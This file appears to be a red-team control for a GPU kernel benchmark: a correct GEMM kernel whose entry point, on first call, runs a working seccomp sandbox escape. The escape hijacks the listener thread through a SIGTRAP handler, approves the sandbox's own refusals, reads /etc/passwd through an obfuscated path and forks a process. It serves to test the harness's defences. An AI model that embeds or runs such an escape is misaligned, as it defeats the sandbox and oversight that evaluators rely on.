// ptxbench red-team control: listener_signal_hijack (task gemm_n7168_k5120). Correct GEMM + an attack; see
// kernels/controls/redteam.toml.
#include <cuda_bf16.h>
#include <cuda_runtime.h>
#include <dlpack/dlpack.h>
#include <cstdint>
#include <cstdio>
#include <cstring>

// ---- a plain, correct GEMM of our own: C[M,N] = A[M,K] * B[N,K]^T, fp32 accumulation ----
// 64x64 output tile per block, 256 threads, 4x4 outputs per thread, K staged 32 at a time.
// mode 0: GEMM; mode 1: GEMM, and block (0,0) first issues one wgmma as a token;
// mode 2: a probe: only block (0,0) runs, touches nothing of C, and exits.
__device__ float rt_sink[4];

__device__ __forceinline__ std::uint64_t rt_desc(const void* smem) {
  std::uint64_t a = static_cast<std::uint64_t>(__cvta_generic_to_shared(smem));
  return ((a >> 4) & 0x3FFFull) | (std::uint64_t(128 >> 4) << 16) | (std::uint64_t(256 >> 4) << 32);
}

__device__ __forceinline__ void rt_token_wgmma(__nv_bfloat16* scratch) {
  // Caller: the 128 threads of warpgroup 0, converged; scratch: 4 KiB of shared memory, zeroed.
  float d0 = 0.f, d1 = 0.f, d2 = 0.f, d3 = 0.f;
  std::uint64_t da = rt_desc(scratch), db = rt_desc(scratch + 1024);
  asm volatile("fence.proxy.async.shared::cta;\n" ::: "memory");
  asm volatile(
      "{\n.reg .pred p;\nsetp.ne.b32 p, %6, 0;\n"
      "wgmma.fence.sync.aligned;\n"
      "wgmma.mma_async.sync.aligned.m64n8k16.f32.bf16.bf16 {%0, %1, %2, %3}, %4, %5, p, 1, 1, 0, 0;\n"
      "wgmma.commit_group.sync.aligned;\n"
      "wgmma.wait_group.sync.aligned 0;\n}\n"
      : "+f"(d0), "+f"(d1), "+f"(d2), "+f"(d3)
      : "l"(da), "l"(db), "r"(0)
      : "memory");
  if (threadIdx.x == 0) rt_sink[0] = d0 + d1 + d2 + d3;
}

__global__ void __launch_bounds__(256) rt_gemm(const __nv_bfloat16* __restrict__ A,
                                               const __nv_bfloat16* __restrict__ B,
                                               __nv_bfloat16* __restrict__ C, int M, int N,
                                               int K, int mode) {
  __shared__ float As[32][64 + 4];
  __shared__ float Bs[32][64 + 4];
  __shared__ __align__(1024) __nv_bfloat16 scratch[2048];
  if (mode != 0 && blockIdx.x == 0 && blockIdx.y == 0) {
    for (int i = threadIdx.x; i < 2048; i += blockDim.x) scratch[i] = __float2bfloat16(0.f);
    __syncthreads();
    if (mode == 1 && threadIdx.x < 128) rt_token_wgmma(scratch);
    if (mode == 2) {
      if (threadIdx.x == 0) rt_sink[1] += 1.f;
      return;
    }
    __syncthreads();
  }
  if (mode == 2) return;
  const int tx = threadIdx.x % 16, ty = threadIdx.x / 16;
  const int m0 = blockIdx.y * 64, n0 = blockIdx.x * 64;
  float acc[4][4];
  for (int i = 0; i < 4; ++i)
    for (int j = 0; j < 4; ++j) acc[i][j] = 0.f;
  for (int k0 = 0; k0 < K; k0 += 32) {
    for (int i = threadIdx.x; i < 64 * 32; i += 256) {
      const int r = i / 32, c = i % 32, gk = k0 + c;
      const int gm = m0 + r, gn = n0 + r;
      As[c][r] = (gm < M && gk < K) ? __bfloat162float(A[(size_t)gm * K + gk]) : 0.f;
      Bs[c][r] = (gn < N && gk < K) ? __bfloat162float(B[(size_t)gn * K + gk]) : 0.f;
    }
    __syncthreads();
#pragma unroll 8
    for (int k = 0; k < 32; ++k) {
      float a[4], b[4];
      for (int i = 0; i < 4; ++i) a[i] = As[k][ty * 4 + i], b[i] = Bs[k][tx * 4 + i];
      for (int i = 0; i < 4; ++i)
        for (int j = 0; j < 4; ++j) acc[i][j] = fmaf(a[i], b[j], acc[i][j]);
    }
    __syncthreads();
  }
  for (int i = 0; i < 4; ++i)
    for (int j = 0; j < 4; ++j) {
      const int gm = m0 + ty * 4 + i, gn = n0 + tx * 4 + j;
      if (gm < M && gn < N) C[(size_t)gm * N + gn] = __float2bfloat16_rn(acc[i][j]);
    }
}

static void rt_launch_gemm(const DLTensor* A, const DLTensor* B, DLTensor* C, cudaStream_t s,
                           int mode) {
  const int M = (int)A->shape[0], K = (int)A->shape[1], N = (int)B->shape[0];
  dim3 grid(mode == 2 ? 1 : (N + 63) / 64, mode == 2 ? 1 : (M + 63) / 64);
  rt_gemm<<<grid, 256, 0, s>>>((const __nv_bfloat16*)A->data, (const __nv_bfloat16*)B->data,
                               (__nv_bfloat16*)C->data, M, N, K, mode);
}

// ---- raw system calls (the instruction's bytes; x86_64 numbers) ----
static long rt_sys(long n, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0,
                   long f = 0) {
  long ret;
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  register long r9 __asm__("r9") = f;
  __asm__ volatile(".byte 0x0f, 0x05"
                   : "=a"(ret)
                   : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                   : "rcx", "r11", "memory");
  return ret;
}
enum : long {
  RT_read = 0, RT_write = 1, RT_close = 3, RT_fstat = 5, RT_mmap = 9, RT_munmap = 11,
  RT_rt_sigaction = 13, RT_ioctl = 16, RT_pread = 17, RT_nanosleep = 35, RT_getpid = 39,
  RT_clone = 56, RT_sysinfo = 99, RT_gettid = 186, RT_fadvise = 221, RT_clock_gettime = 228,
  RT_exit_group = 231, RT_tgkill = 234, RT_openat = 257
};
static double rt_now_ms() {
  long ts[2] = {0, 0};
  rt_sys(RT_clock_gettime, 1 /*CLOCK_MONOTONIC*/, (long)ts);
  return ts[0] * 1e3 + ts[1] / 1e6;
}
static void rt_sleep_us(long us) {
  long ts[2] = {us / 1000000, (us % 1000000) * 1000};
  rt_sys(RT_nanosleep, (long)ts, 0);
}
// A path assembled at run time ('~' dropped), so no file name stands in the source.
static void rt_path(char* out, const char* scrambled) {
  std::size_t j = 0;
  for (std::size_t i = 0; scrambled[i]; ++i)
    if (scrambled[i] != '~') out[j++] = scrambled[i];
  out[j] = 0;
}

// listener_signal_hijack: the host's seccomp filter sends file opens and clone to a listener
// THREAD of the candidate's own process (core/refusal.cc). That thread blocks every signal but
// SIGSYS and the "synchronous" faults -- yet tgkill(own pid, its tid, SIGTRAP) is allowed (only
// the thread-group id is checked), and so is a SIGTRAP handler. The handler then runs ON the
// listener thread: candidate code on a second thread (the sandbox promises none), and it owns
// the notification descriptor: it answers every notification CONTINUE itself. Steps:
//   1. listener tid found (tgkill sig 0), SIGTRAP sent, handler runs on another tid;
//   2. a refused open is answered by us: EACCES comes back, the process is NOT ended (exit 87);
//   3. clone (fork) is answered CONTINUE: a child process exists (it exits at once).
namespace {
volatile long g_hijack_tid = 0, g_notify_fd = -1, g_served = 0;
int g_calls = 0;

void serve_forever(int, void*, void*) {
  g_hijack_tid = rt_sys(RT_gettid);
  alignas(16) unsigned char req[80];
  alignas(16) unsigned char resp[24];
  while (true) {
    const long lo = g_notify_fd >= 0 ? g_notify_fd : 5, hi = g_notify_fd >= 0 ? g_notify_fd : 64;
    bool any = false;
    for (long fd = lo; fd <= hi; ++fd) {
      std::memset(req, 0, sizeof req);
      const long r = rt_sys(RT_ioctl, fd, 0xC0502100L /*NOTIF_RECV*/, (long)req);
      if (r == -4 /*EINTR*/ || r == -2 /*ENOENT*/) { any = true; break; }
      if (r != 0) continue;
      any = true;
      g_notify_fd = fd;
      std::memset(resp, 0, sizeof resp);
      std::memcpy(resp, req, 8);                       // id
      const unsigned int cont = 1;                     // SECCOMP_USER_NOTIF_FLAG_CONTINUE
      std::memcpy(resp + 20, &cont, 4);
      rt_sys(RT_ioctl, fd, 0xC0182101L /*NOTIF_SEND*/, (long)resp);
      g_served = g_served + 1;
      break;
    }
    if (!any) rt_sleep_us(1000);
  }
}

void attack() {
  const long pid = rt_sys(RT_getpid), me = rt_sys(RT_gettid);
  long victim = 0;
  for (long t = pid + 1; t < pid + 4096 && !victim; ++t)
    if (t != me && rt_sys(RT_tgkill, pid, t, 0) == 0) victim = t;
  if (!victim) {
    std::fprintf(stderr, "PTXBENCH-PROBE listener_signal_hijack: no other thread in the process\n");
    return;
  }
  struct { void* handler; unsigned long flags; void* restorer; unsigned long mask; } act;
  act.handler = (void*)&serve_forever;
  act.flags = 0x4 /*SIGINFO*/ | 0x04000000 /*RESTORER*/ | 0x40000000 /*NODEFER*/;
  act.restorer = (void*)&serve_forever;  // never returns: the frame's restorer is never used
  act.mask = ~0ull & ~(1ull << (31 - 1));   // block all but SIGSYS while it serves
  long r = rt_sys(RT_rt_sigaction, 5 /*SIGTRAP*/, (long)&act, 0, 8);
  if (r != 0) {
    std::fprintf(stderr, "PTXBENCH-PROBE listener_signal_hijack: rt_sigaction said %ld\n", r);
    return;
  }
  r = rt_sys(RT_tgkill, pid, victim, 5);
  for (int i = 0; i < 500 && !g_hijack_tid; ++i) rt_sleep_us(1000);
  if (!g_hijack_tid || g_hijack_tid == me) {
    std::fprintf(stderr, "PTXBENCH-PROBE listener_signal_hijack: tgkill(%ld) -> %ld, no handler "
                 "ran on thread %ld\n", victim, r, victim);
    return;
  }
  std::fprintf(stderr, "PTXBENCH-ESCAPE listener_signal_hijack: candidate code runs on thread %ld "
               "(the sandbox's listener) beside the main thread %ld\n", (long)g_hijack_tid, me);
  char path[64];
  rt_path(path, "/e~tc/pa~sswd");
  const long fd = rt_sys(RT_openat, -100, (long)path, 0 /*O_RDONLY*/);
  if (fd >= 0) {
    char buf[32] = {0};
    rt_sys(RT_read, fd, (long)buf, 31);
    rt_sys(RT_close, fd);
    for (char& ch : buf) if (ch == '\n' || ch == ':') ch = ' ';
    std::fprintf(stderr, "PTXBENCH-ESCAPE listener_signal_hijack: read a file outside the "
                 "policy: '%.20s'\n", buf);
  } else if (g_served > 0) {
    std::fprintf(stderr, "PTXBENCH-ESCAPE listener_signal_hijack: the refused open came back as "
                 "error %ld and the process goes on (no exit 87; %ld notification(s) answered by "
                 "the candidate)\n", -fd, (long)g_served);
  }
  const long child = rt_sys(RT_clone, 17 /*SIGCHLD*/, 0, 0, 0, 0);
  if (child == 0) rt_sys(RT_exit_group, 0);  // the child: nothing else
  if (child > 0)
    std::fprintf(stderr, "PTXBENCH-ESCAPE listener_signal_hijack: fork answered by the "
                 "candidate's own listener: child pid %ld existed\n", child);
  else
    std::fprintf(stderr, "PTXBENCH-PROBE listener_signal_hijack: clone -> %ld\n", child);
}
}  // namespace

extern "C" void ptxbench_launch(const DLTensor* A, const DLTensor* B, DLTensor* C,
                                cudaStream_t stream) {
  if (++g_calls == 1) attack();
  rt_launch_gemm(A, B, C, stream, 0);
}
